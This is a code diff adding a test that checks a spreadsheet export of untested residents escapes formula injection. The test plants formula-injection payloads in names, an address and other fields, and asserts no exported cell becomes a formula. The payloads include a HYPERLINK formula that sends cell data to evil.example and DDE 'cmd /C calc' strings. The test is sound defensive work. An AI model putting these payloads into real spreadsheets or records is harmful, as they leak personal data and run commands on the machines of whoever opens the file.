@@ -141,3 +141,44 @@ def test_export_of_another_community_is_not_found(client: Any, world: Any) -> No
 
     assert response.status_code == 404
     assert not AuditEvent.objects.filter(action="coverage.untested_export").exists()
+
+
+PLANTED = {
+    "b3": '=HYPERLINK("http://evil.example/?"&C5&D5,"点击")',
+    "b4": "@SUM(1+1)*cmd|' /C calc'!A0",
+}
+
+
+def test_export_writes_no_formula_whatever_the_names(client: Any, world: Any) -> None:
+    # Given names, an address, a community and a round name planted as formulas
+    from fangkong.areas.models import Jurisdiction
+    from fangkong.core.spreadsheet import formula_unescape
+    from fangkong.people.models import Household, Person
+    from fangkong.testing.models import Round
+
+    for key, name in PLANTED.items():
+        Person.objects.filter(pk=world.persons[key].pk).update(name=name)
+    Household.objects.filter(pk=world.persons["b3"].household_id).update(
+        address='+1+HYPERLINK("http://evil.example")'
+    )
+    Jurisdiction.objects.filter(path="330483101001").update(name="-2+3+cmd|' /C calc'!A0")
+    Round.objects.filter(pk=world.round.pk).update(name="\t=1+1")
+    url = f"{BASE}/{world.round.pk}/coverage/communities/330483101001/untested.xlsx"
+
+    # When the list is exported masked and in clear
+    masked = _get(client, world.users["worker_b"], url)
+    revealed = client.post(f"{url}?reveal=true")
+
+    # Then no cell of either workbook is a formula, and the values read back unchanged
+    for response in (masked, revealed):
+        assert response.status_code == 200
+        ws = load_workbook(io.BytesIO(response.content)).active
+        cells = [cell for row in ws.iter_rows() for cell in row if cell.value is not None]
+        assert all(cell.data_type != "f" for cell in cells)
+        texts = [c.value for c in cells if isinstance(c.value, str)]
+        assert not any(t.startswith(("=", "+", "-", "@", "\t", "\r")) for t in texts)
+    ws = load_workbook(io.BytesIO(revealed.content)).active
+    rows = list(ws.iter_rows(min_row=4, values_only=True))
+    assert {formula_unescape(r[1]) for r in rows} == set(PLANTED.values())
+    assert '+1+HYPERLINK("http://evil.example")' in {formula_unescape(r[4]) for r in rows}
+    assert {formula_unescape(r[5]) for r in rows} == {"-2+3+cmd|' /C calc'!A0"}
